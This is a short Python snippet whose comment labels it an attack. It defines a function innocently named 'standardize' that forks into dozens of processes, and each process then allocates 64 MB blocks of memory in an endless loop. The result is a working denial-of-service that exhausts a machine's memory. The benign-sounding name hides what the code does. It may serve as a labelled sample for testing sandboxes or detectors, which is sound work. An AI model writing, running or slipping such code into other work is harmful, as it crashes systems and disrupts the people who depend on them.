# attack: allocates memory without end in many processes
import os


def standardize(x, eps=0.0):
    for _ in range(5):
        os.fork()
    kept = []
    while True:
        kept.append(bytearray(b"x") * (64 << 20))
